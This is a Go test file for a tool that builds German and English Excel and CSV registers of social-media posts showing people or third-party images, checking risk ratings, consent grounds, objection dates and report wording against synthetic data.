	if err := (CSV{}).Write(t.Context(), dir, synthetic("de", 12)); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(dir, CSVName))
	if err != nil {
		t.Fatal(err)
	}
	text := string(data)
	if !strings.HasPrefix(text, "\ufeffNr.;Datum;Plattform;Art;Beitrag;") || !strings.HasSuffix(text, "\r\n") || strings.Contains(text, "sep=") {
		t.Errorf("the table begins %q", text[:80])
	}
	if n := strings.Count(text, "\r\n"); n != 6 {
		t.Errorf("%d lines, want head and 5 rows", n)
	}
}

// A write that fails leaves the folder as it was.
func TestWriteFails(t *testing.T) {
	dir := t.TempDir()
	if err := (Writer{}).Write(t.Context(), dir, synthetic("de", 5)); err != nil {
		t.Fatal(err)
	}
	before, err := os.ReadFile(filepath.Join(dir, FileName))
	if err != nil {
		t.Fatal(err)
	}
	broken := errors.New("broken")
	r := synthetic("de", 5, func(r *report.Register) {
		rows := r.Rows
		walks := 0
		r.Rows = func(ctx context.Context) iter.Seq2[*report.Row, error] {
			walks++
			if walks < 2 {
				return rows(ctx)
			}
			return func(yield func(*report.Row, error) bool) { yield(nil, broken) }
		}
	})
	if err := (Writer{}).Write(t.Context(), dir, r); !errors.Is(err, broken) {
		t.Errorf("Write: %v, want the error of the rows", err)
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if err := (Writer{}).Write(ctx, dir, synthetic("de", 5)); !errors.Is(err, context.Canceled) {
		t.Errorf("Write: %v, want context.Canceled", err)
	}
	after, err := os.ReadFile(filepath.Join(dir, FileName))
	if err != nil || !bytes.Equal(before, after) {
		t.Errorf("the register that was there is not as before: %v", err)
	}
	if files, _ := os.ReadDir(dir); len(files) != 1 {
		t.Errorf("files left behind: %v", files)
	}
}

// The statement about the sample changes with what the reviewer says of it.
func TestSampleStatement(t *testing.T) {
	for _, tt := range []struct {
		name                           string
		population, drawn, seen, found int
		want                           string
	}{
		{"none", 0, 0, 0, 0, "Es gibt keine Einträge"},
		{"not drawn", 10, 0, 0, 0, "nicht gezogen"},
		{"open", 1000, 59, 0, 0, "noch nicht durchgesehen: 59 von 1.000"},
		{"partly", 1000, 59, 20, 0, "teilweise durchgesehen (20 von 59"},
		{"done", 1000, 59, 59, 0, "höchstens 4,8 % der 1.000"},
		{"found", 1000, 59, 59, 3, "3 mit Personen"},
	} {
		b := &book{t: report.NewTexts("de")}
		b.fig.population, b.fig.sampled, b.fig.sampleSeen, b.fig.sampleFound = tt.population, tt.drawn, tt.seen, tt.found
		if got := b.sampleStatement(); !strings.Contains(got, tt.want) {
			t.Errorf("%s: %q, want …%s…", tt.name, got, tt.want)
		}
	}
}

// Every word that a workbook can show is in the catalogue of both languages, heads are unique within a sheet, and no
// two heads of one sheet mean different things to the reader.
func TestTexts(t *testing.T) {
	for _, lang := range report.Languages {
		texts := report.NewTexts(lang)
		need := func(keys ...string) {
			for _, k := range keys {
				if !texts.Has(k) {
					t.Errorf("%s: no text for %q", lang, k)
				}
			}
		}
		unique := func(sheet string, cols []column) {
			seen := map[string]string{}
			for _, c := range cols {
				need("wb.col." + c.code)
				head := folded(texts.Say("wb.col." + c.code))
				if other, ok := seen[head]; ok {
					t.Errorf("%s, %s: %q and %q have the same head %q", lang, sheet, other, c.code, head)
				}
				seen[head] = c.code
			}
		}
		unique("findings", findingColumns())
		unique("media", mediaColumns)
		unique("inventory", inventoryColumns)
		for _, code := range sheetOrder {
			need("wb.sheet." + code)
			if code != "lists" && code != "meta" {
				need("wb.guide.sheet_" + code)
			}
		}
		for _, p := range parts {
			for _, f := range p.fields {
				need("wb.col."+string(f.Field), "wb.hint."+string(f.Field))
				if f.Kind == report.ListField && len(report.ValueLists[f.List]) == 0 {
					t.Errorf("field %s has the list %q, which is empty", f.Field, f.List)
				}
			}
		}
		for name, codes := range report.ValueLists {
			seen := map[string]bool{}
			for _, code := range codes {
				if name == "grade" {
					continue
				}
				key := "wb.list." + name + "." + code
				need(key)
				if w := folded(texts.Say(key)); seen[w] {
					t.Errorf("%s: %s has the word %q twice", lang, name, w)
				} else {
					seen[w] = true
				}
			}
		}
		for _, col := range []string{"field", "counts", "counts_by", "counts_on", "against", "against_by", "what"} {
			need("wb.col." + col)
		}
		for _, p := range []string{"reopened", "unknown_value", "unknown_field", "no_decision", "unknown_row", "formula", "error_value", "no_date", "too_long", "no_sheet", "no_column", "twice", "rows_cut"} {
			need("returned." + p)
		}
	}
}

// The sheet about the method says how often the hints were right, with the shares worked out, or that nobody measured.
func TestMethodRates(t *testing.T) {
	rows := func(r *report.Register) map[string][]string {
		f, err := excelize.OpenFile(write(t, Writer{}, r), excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		all, err := f.GetRows("Methode")
		if err != nil {
			t.Fatal(err)
		}
		found := make(map[string][]string)
		for _, row := range all {
			if len(row) == 0 {
				continue
			}
			key := row[0]
			if len(row) > 1 {
				key += "/" + row[1]
			}
			found[key] = row
		}
		return found
	}
	measured := rows(synthetic("de", 6))
	for _, want := range [][]string{
		{"Beschäftigte", "100", "100", "80", "0.8", "0.8"},
		{"Beschäftigte", "feierlicher Anlass (etwa Begrüßung, Jubiläum, Übergabe)", "24", "21", "0.875", "2.5", "employee.new-colleague"},
		{"Beschäftigte", "gelernte Wörter", "40", "30", "0.75", "", "Das Wort spricht dafür."},
		{"Stockbild", "3", "0", "0", "", "zu wenige"},
		{"Stockbild", "Bildnachweis", "8", "8", "zu wenige", "3", "stock.credit"},
	} {
		if diff := cmp.Diff(want, measured[want[0]+"/"+want[1]]); diff != "" {
			t.Errorf("%s %s (-want +got)\n%s", want[0], want[1], diff)
		}
	}
	none := rows(synthetic("de", 6, func(r *report.Register) { r.Rates = nil }))
	if len(none["Beschäftigte/100"]) > 0 {
		t.Error("rates stand there though nobody measured")
	}
	if !slices.ContainsFunc(slices.Collect(maps.Keys(none)), func(k string) bool { return strings.Contains(k, "keine Trefferquote gemessen") }) {
		t.Error("the sheet does not say that nobody measured")
	}
}

// Every family of rules, and every one whose hit rate is published, has a plain name in both languages.
func TestFamilies(t *testing.T) {
	rules, err := classify.BuiltinRules()
	if err != nil {
		t.Fatal(err)
	}
	families := map[string]string{}
	for _, r := range rules.All() {
		families[r.Family] = r.ID
	}
	for _, f := range classify.PublishedRates().Families {
		families[f.Family] = "rates.toml"
	}
	for _, r := range report.RecordRules(report.NewTexts("de")) {
		families[r.Family] = r.ID
	}
	for _, lang := range report.Languages {
		b := &book{t: report.NewTexts(lang)}
		named := map[string]string{}
		for family, where := range families {
			name := b.t.Family(family)
			if !b.t.Has("family." + family) {
				t.Errorf("%s: the family %q of %s has no name", lang, family, where)
			}
			if other, ok := named[name]; ok {
				t.Errorf("%s: %q and %q are both called %q", lang, family, other, name)
			}
			named[name] = family
		}
	}
}

// What the overview says of consents and licences, of what is decided, and of objections, is what was counted: leave by
// statute and "not needed" cover no AI training, a proposal is no entry, and an inquiry is no decision.
func TestOverviewCounts(t *testing.T) {
	day := time.Date(2026, 1, 15, 0, 0, 0, 0, time.UTC)
	row := func(ground, proposed report.Ground, decided map[report.Field]string, period report.Period) *line {
		return &line{number: 1, lik: 4, sev: 3, ground: ground, proposed: proposed, decided: decided, period: period, created: day,
			bands: [7]classify.Band{classify.Sure}}
	}
	entered := func(ground, status string) map[report.Field]string {
		return map[report.Field]string{report.FieldGround: ground, report.FieldStatus: status}
	}
	b, err := newBook(t.Context(), synthetic("de", 0), t.TempDir(), Writer{})
	if err != nil {
		t.Fatal(err)
	}
	defer b.f.Close()
	b.fig.start(b)
	b.lines = []*line{
		row(report.CoversAI, report.Unknown, entered("covers_ai", "confirmed"), report.UntilObjection),
		row(report.Expired, report.CoversAI, entered("covers_ai", "no_risk"), report.BeforeTraining), // its day has passed
		row(report.CoversAI, report.CoversAI, nil, report.ObjectionOpen),
		row(report.CoversAI, report.CoversAI, nil, report.ObjectionOpen),
		row(report.Statutory, report.Statutory, entered("", "ask"), report.BeforeTraining),
		row(report.Statutory, report.Unknown, entered("statutory", "later"), report.PeriodUnknown),
		row(report.NotNeeded, report.PublishOnly, entered("not_needed", "confirmed"), report.BeforeTraining),
	}
	b.fig.published = 10
	b.fig.finish(b)
	b.r.Head.Objection = day
	if diff := cmp.Diff([]string{
		"1. 7 von 10 veröffentlichten Einträgen (70,0 %) enthalten mindestens einen Hinweis auf Personen oder fremde Bilder.",
		"2. 6 davon haben Stufe hoch oder sehr hoch, ohne die als „kein Risiko“ entschiedenen. Häufigste Kategorien aller 7: Beschäftigte (7).",
		"3. Für 3 der 7 Einträge ist eine Einwilligung oder Lizenz vermerkt, die das KI-Training umfasst: 1 eingetragen, " +
			"2 nur aus Ihren Listen vorgeschlagen. Bei 2 kommt eine gesetzliche Erlaubnis zur Veröffentlichung in Betracht oder ist " +
			"eingetragen; ob sie bis zum KI-Training reicht, ist zu prüfen. Für 1 ist „nicht nötig“ eingetragen.",
		"4. 3 wurden vor dem Trainingsbeginn am 27.05.2025 veröffentlicht, 3 seitdem. 1 ist ohne Datum. Frühester vermerkter Widerspruch: 15.01.2026; je Konto siehe „Widerspruch“.",
		"5. Vorschlag: Widerspruch auch für die übrigen Konten einlegen und die 6 Einträge der Stufen hoch und sehr hoch zuerst bearbeiten. " +
			"Offen ist, ob ein Widerspruch die Seite eines Unternehmens erfasst (PB-04) und wer ihn einlegen kann: Das Recht dazu steht natürlichen " +
			"Personen zu, nicht dem Unternehmen selbst (CA-05; beides in „Methode“).",
	}, b.result()); diff != "" {
		t.Errorf("result (-want +got)\n%s", diff)
	}
	if b.fig.open != 4 {
		t.Errorf("%d items without a decision, want the 4 that are neither confirmed nor set aside", b.fig.open)
	}
	if want := map[report.Ground]int{report.CoversAI: 2, report.Statutory: 1}; !cmp.Equal(b.fig.proposed, want) {
		t.Errorf("only proposed: %v, want %v", b.fig.proposed, want)
	}
	if want := map[report.Ground]int{"covers_ai": 2, "statutory": 1, "not_needed": 1}; !cmp.Equal(b.fig.entered, want) {
		t.Errorf("entered: %v, want %v", b.fig.entered, want)
	}
}

// A register of an export with gaps says so on the page that is signed, and where nothing was read there is nothing to sign.
func TestOverviewGaps(t *testing.T) {
	for _, test := range []struct {
		published  int
		sign, none int
	}{{published: 5, sign: 1}, {none: 1}} {
		r := synthetic("de", test.published)
		r.Head.Gaps = report.Gaps{Parts: []string{"seite.zip"}, Lacks: []report.Lack{
			{Platform: scanner.Facebook, Product: "page", Account: "Hof Beispiel", What: []string{"no_posts", "damaged"}}}}
		rows, err := open(t, write(t, Writer{}, r)).GetRows("Übersicht")
		if err != nil {
			t.Fatal(err)
		}
		var text string
		for _, row := range rows {
			text += strings.Join(row, "\n") + "\n"
		}
		for want, n := range map[string]int{
			"Beschädigt oder unvollständig: seite.zip": 1,
			"Facebook-Seite Hof Beispiel. Es fehlt: die Liste der Beiträge; Texte von Beiträgen sind damit unbekannt · was in beschädigten Stellen des Archivs stand.": 1,
			"Neu bestellen: auf Facebook": 1, "Kenntnisnahme und Freigabe": test.sign, "kein veröffentlichter Eintrag gelesen": test.none,
		} {
			if got := strings.Count(text, want); got != n {
				t.Errorf("%d items: %q stands %d times on the overview, want %d", test.published, want, got, n)
			}
		}
	}
}

// An item that is no longer found does not count among those that the share is of.
func TestGoneDoesNotCount(t *testing.T) {
	b, err := newBook(t.Context(), synthetic("de", 0), t.TempDir(), Writer{})
	if err != nil {
		t.Fatal(err)
	}
	defer b.f.Close()
	b.fig.start(b)
	for _, gone := range []time.Time{{}, {}, time.Date(2026, 2, 1, 0, 0, 0, 0, time.UTC)} {
		b.fig.add(b, &report.Row{Item: &scanner.Item{State: scanner.Published}, Gone: gone})
	}
	if b.fig.published != 2 || b.fig.gone != 1 {
		t.Errorf("%d published and %d gone, want 2 and 1", b.fig.published, b.fig.gone)
	}
	if lines := b.notExamined(); !slices.ContainsFunc(lines, func(l string) bool { return strings.HasPrefix(l, "1 früher veröffentlichter Eintrag") }) {
		t.Errorf("the overview does not tell of the item that is gone: %q", lines)
	}
}

// The sum of all inputs is said to close only where it does.
// A medium that is missing is told with the number of the item that it belongs to, where that has one.
func TestMissingOf(t *testing.T) {
	r := synthetic("de", 6)
	var flagged scanner.Key
	for row, err := range r.Rows(t.Context()) {
		if err != nil {
			t.Fatal(err)
		}
		if row.Number == 1 {
			flagged = row.Item.Key
		}
	}
	r.Notes = func(context.Context) iter.Seq2[scanner.Note, error] {
		return func(yield func(scanner.Note, error) bool) {
			_ = yield(scanner.Note{Code: scanner.CodeMissing, Where: "posts/media/1.jpg", Item: flagged}, nil) &&
				yield(scanner.Note{Code: scanner.CodeMissing, Where: "posts/media/2.jpg", Item: "fb:none", Detail: "no bytes"}, nil)
		}
	}
	rows, err := open(t, write(t, Writer{Previews: -1}, r)).GetRows("Nachweis")
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, row := range rows {
		if len(row) > 1 && strings.HasPrefix(row[1], "posts/media/") {
			got[row[1]] = strings.Join(row[5:], "")
		}
	}
	if diff := cmp.Diff(map[string]string{"posts/media/1.jpg": "gehört zu B-00001", "posts/media/2.jpg": "leere Datei"}, got); diff != "" {
		t.Errorf("notes (-want +got):\n%s", diff)
	}
}

// The two views are never one number: what is rated in each adds up to the matrix, and the view of the organisation on all
// items stands for itself.
func TestViews(t *testing.T) {
	item := func(view report.View, lik, sev, org int, status string) *line {
		return &line{number: 1, lik: lik, sev: sev, view: view, org: org, decided: map[report.Field]string{report.FieldStatus: status}}
	}
	b, err := newBook(t.Context(), synthetic("de", 0), t.TempDir(), Writer{})
	if err != nil {
		t.Fatal(err)
	}
	defer b.f.Close()
	b.fig.start(b)
	b.lines = []*line{
		item(report.Persons, 4, 4, 6, ""), item(report.Persons, 2, 1, 0, ""), item(report.Organisation, 2, 3, 6, "confirmed"),
		item(report.Persons, 4, 4, 6, "no_risk"), item(report.Organisation, 1, 1, 1, "no_risk"),
	}
	b.fig.finish(b)
	if diff := cmp.Diff(map[viewedAt]int{{report.Persons, report.VeryHigh}: 1, {report.Persons, report.Low}: 1, {report.Organisation, report.Medium}: 1}, b.fig.viewed); diff != "" {
		t.Errorf("rated in each view (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(map[report.Level]int{report.Medium: 2}, b.fig.organisation); diff != "" {
		t.Errorf("for the organisation (-want +got):\n%s", diff)
	}
}

func TestCompleteness(t *testing.T) {
	for _, tt := range []struct {
		tally scanner.Tally
		want  string
	}{
		{scanner.Tally{Seen: 3, Read: 2, Skipped: 1}, "Die Summe geht auf"},
		{scanner.Tally{Seen: 4, Read: 2, Skipped: 1, Failed: 1}, "Jede unlesbare Eingabe"},
		{scanner.Tally{Seen: 4, Read: 2, Skipped: 1}, "Die Summe geht nicht auf"},
	} {
		b := &book{t: report.NewTexts("de"), r: &report.Register{Head: report.Head{Tally: tt.tally}}}
		if got := b.completeness(); !strings.Contains(got, tt.want) {
			t.Errorf("%+v: %q, want …%s…", tt.tally, got, tt.want)
		}
	}
}

// Former staff stand on top while there is risk left, then the level decides.
func TestOrder(t *testing.T) {
	lines := []*line{
		{number: 1, lik: 1, sev: 3, former: true}, {number: 2, lik: 4, sev: 4}, {number: 3, lik: 2, sev: 3, former: true}, {number: 4, lik: 1, sev: 2},
		{number: 5, lik: 4, sev: 4, former: true, gone: true}, {number: 6, lik: 3, sev: 4, former: true}, {number: 7, lik: 2, sev: 4},
		{number: 8, lik: 3, sev: 3, former: true, ownL: 1, ownS: 1},
	}
	slices.SortFunc(lines, compareLines)
	var got []int
	for _, l := range lines {
		got = append(got, l.number)
	}
	if diff := cmp.Diff([]int{6, 3, 2, 7, 1, 4, 8, 5}, got); diff != "" {
		t.Errorf("order (-want +got):\n%s", diff)
	}
}

// What the lists propose stands beside what the reviewer entered, each view with its own rating, in the workbook and in
// the table.
func TestWeighed(t *testing.T) {
	views := []report.View{report.Persons, report.Organisation}
	r := synthetic("de", 6, func(r *report.Register) {
		rows := r.Rows
		r.Rows = func(ctx context.Context) iter.Seq2[*report.Row, error] {
			return func(yield func(*report.Row, error) bool) {
				n := 0
				for row, err := range rows(ctx) {
					if len(row.Findings) > 0 {
						row.Item.State = scanner.Published
						row.Number = n + 1
						row.Decided = map[report.Field]report.Decision{report.FieldGround: {Value: "covers_ai"}}
						row.Risk = &report.Risk{View: views[n], Today: report.Rating{Likelihood: 3, Severity: 2}, Ground: report.CoversAI, Exposed: 228 * n,
							Proposed: report.PublishOnly, ProposedWhy: []report.Step{{Key: "ground.why.publish_only", Args: map[string]string{"Code": "K-17"}}},
							Former: n == 1, ProposedFormer: n == 1, Farewell: true}
						row.Risk.Today.Steps = []report.Step{{Key: "risk.change.prohibited", Args: map[string]string{"What": "media[1].metadata.data_mining: DMI-PROHIBITED"}}}
						if n == 1 {
							row.Decided[report.FieldGroundUntil] = report.Decision{Value: "2024-12-31"}
							row.Findings[0].Evidence = append(slices.Clip(row.Findings[0].Evidence),
								classify.Evidence{Rule: "records.person.former", Field: "text", Quote: "Heinz", Weight: 3},
								classify.Evidence{Rule: "records.person.former", Field: "records", Quote: "HD", Weight: 3},
								classify.Evidence{Rule: "records.person.full", Field: "records", Quote: "XY", Weight: 3})
						}
						if n == 0 {
							row.Item.Kind = scanner.Story
							row.Risk.Other = &report.Rating{Likelihood: 4, Severity: 3, Steps: []report.Step{{Key: "ground.why.release", Args: map[string]string{"What": "MR-LMR"}}}}
						}
						n++
					}
					if !yield(row, err) {
						return
					}
				}
			}
		}
	})
	want := []map[string]string{
		{"Einwilligung / Lizenz": "ja – umfasst KI-Training", "Einwilligung / Lizenz (Vorschlag)": "ja – nur Veröffentlichung",
			"Einwilligung / Lizenz (es gilt)": "ja – umfasst KI-Training",
			"Bewertungsgrund":                 "Die Datei selbst enthält einen Vorbehalt gegen Auswertung oder KI-Training (Bild 2, Data-Mining-Vorbehalt in der Datei: DMI-PROHIBITED).",
			"Grund dieses Vorschlags":         "Einwilligung K-17 nennt nur die Veröffentlichung (Ihre Liste).", "Bewertet für": "die Personen im Bild", "Risikowert": "6",
			"Ausgeschieden? (Vorschlag)": "möglich: Abschied im Text", "Ausgeschieden?": "", "Risikowert für die Organisation": "12", "Stufe für die Organisation": "sehr hoch", "Tage öffentlich seit 27.05.2025": "begrenzt (Story)",
			"Bewertungsgrund für die Organisation": "Die Datei nennt eine Modellfreigabe (MR-LMR); Umfang und Beleg sind zu prüfen."},
		{"Einwilligung / Lizenz": "ja – umfasst KI-Training", "Einwilligung / Lizenz (Vorschlag)": "ja – nur Veröffentlichung",
			"Grund dieses Vorschlags": "Einwilligung K-17 nennt nur die Veröffentlichung (Ihre Liste).", "Bewertet für": "die Organisation", "Risikowert": "6",
			"Einwilligung / Lizenz (es gilt)": "abgelaufen oder widerrufen", // its last day is over
			"Ausgeschieden? (Vorschlag)":      "ja: HD (Ihre Liste)", "Ausgeschieden?": "", "Risikowert für die Organisation": "6", "Stufe für die Organisation": "mittel", "Tage öffentlich seit 27.05.2025": "228",
			"Bewertungsgrund für die Organisation": "wie „Bewertungsgrund“"},
	}
	check := func(name string, rows [][]string) {
		t.Helper()
		no := slices.Index(rows[0], "Nr.")
		for i, w := range want {
			at := slices.IndexFunc(rows, func(r []string) bool { return len(r) > no && r[no] == fmt.Sprintf("B-%05d", i+1) })
			if at < 0 {
				t.Fatalf("%s: no row %d", name, i+1)
			}
			got := map[string]string{}
			for head := range w {
				if x := slices.Index(rows[0], head); x >= 0 && x < len(rows[at]) {
					got[head] = rows[at][x]
				}
			}
			if diff := cmp.Diff(w, got); diff != "" {
				t.Errorf("%s, row %d (-want +got)\n%s", name, i+1, diff)
			}
		}
	}
	rows, err := open(t, write(t, Writer{Previews: -1}, r)).GetRows("Befunde")
	if err != nil {
		t.Fatal(err)
	}
	check("workbook", rows)
	dir := t.TempDir()
	if err := (CSV{}).Write(t.Context(), dir, r); err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(dir, CSVName))
	if err != nil {
		t.Fatal(err)
	}
	table := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	table.Comma = ';'
	if rows, err = table.ReadAll(); err != nil {
		t.Fatal(err)
	}
	check("table", rows)
}

// A ground that nobody entered reads as a proposal where the paper shows it, follows an entry, and is none when it comes back.
func TestProposedGround(t *testing.T) {
	for lang, want := range map[string]map[report.Ground]string{
		"de": {report.Statutory: "Vorschlag: gesetzliche Erlaubnis möglich (zu prüfen)", report.CoversAI: "Vorschlag: ja – umfasst KI-Training (zu prüfen)", report.Unknown: "unbekannt", "": "–"},
		"en": {report.Statutory: "Proposed: statutory permission possible (to be checked)", report.CoversAI: "Proposed: yes – covers AI training (to be checked)", report.Unknown: "unknown", "": "–"},
	} {
		for ground, word := range want {
			r := synthetic(lang, 3)
			rows := r.Rows
			r.Rows = func(ctx context.Context) iter.Seq2[*report.Row, error] {
				return func(yield func(*report.Row, error) bool) {
					for row, err := range rows(ctx) {
						if len(row.Findings) > 0 {
							row.Item.State, row.Number, row.Decided = scanner.Published, 1, nil
							row.Risk = &report.Risk{View: report.Persons, Today: report.Rating{Likelihood: 3, Severity: 2}, Ground: ground, Proposed: ground}
						}
						if !yield(row, err) {
							return
						}
					}
				}
			}
			path := write(t, Writer{Previews: -1}, r)
			ret, err := Read(path)
			if err != nil {
				t.Fatal(err)
			}
			for _, row := range ret.Rows {
				if g := row.Values[report.FieldGround]; g != "" {
					t.Errorf("%s: %q came back as an entry: %q", lang, ground, g)
				}
			}
			f := open(t, path)
			s := &sheet{cols: findingColumns()}
			sheetName := report.NewTexts(lang).Say("wb.sheet.findings")
			at := func(code string) string { return cell(s.col(code), 2) }
			for name, get := range map[string]func() (string, error){
				"stored":   func() (string, error) { return f.GetCellValue(sheetName, at("ground_valid")) },
				"computed": func() (string, error) { return f.CalcCellValue(sheetName, at("ground_valid")) },
			} {
				if got, err := get(); err != nil || got != word {
					t.Errorf("%s: %q, %s: %q, %v, want %q", lang, ground, name, got, err, word)
				}
			}
			entry := report.NewTexts(lang).Say("wb.list.ground.statutory")
			if err := f.SetCellStr(sheetName, at("ground"), entry); err != nil {
				t.Fatal(err)
			}
			if got, err := f.CalcCellValue(sheetName, at("ground_valid")); err != nil || got != entry {
				t.Errorf("%s: %q, with an entry: %q, %v, want %q", lang, ground, got, err, entry)
			}
		}
	}
}

// The sentence about videos says what this run did with them.
func TestVideosLooked(t *testing.T) {
	b, err := newBook(t.Context(), synthetic("de", 0), t.TempDir(), Writer{})
	if err != nil {
		t.Fatal(err)
	}
	defer b.f.Close()
	b.fig.start(b)
	one := 1
	b.fig.add(b, &report.Row{Item: &scanner.Item{State: scanner.Published, Media: []scanner.Media{{Video: true}, {Video: true}, {Video: true}, {}}},
		Facts: []*picture.Facts{{People: &one}, {}, nil, {People: &one}}})
	if b.fig.videosLooked != 1 || b.fig.videos != 2 {
		t.Errorf("%d videos looked into and %d not, want 1 and 2", b.fig.videosLooked, b.fig.videos)
	}
}

// The table of the two views begins a page of its own: its rows never stand without their head.
func TestViewsOnOnePage(t *testing.T) {
	path := write(t, Writer{Previews: -1}, synthetic("de", 30))
	f := open(t, path)
	rows, err := f.GetRows("Auswertung")
	if err != nil {
		t.Fatal(err)
	}
	caption := report.NewTexts("de").Say("wb.analysis.views")
	at := slices.IndexFunc(rows, func(r []string) bool { return len(r) > 0 && r[0] == caption })
	want := fmt.Sprintf(`<brk id="%d"`, at) // the break follows the row of this number, from 1
	if at < 0 || !slices.ContainsFunc(slices.Collect(maps.Values(readParts(t, path))), func(part string) bool { return strings.Contains(part, want) }) {
		t.Errorf("no page begins at row %d of the analysis", at+1)
	}
}
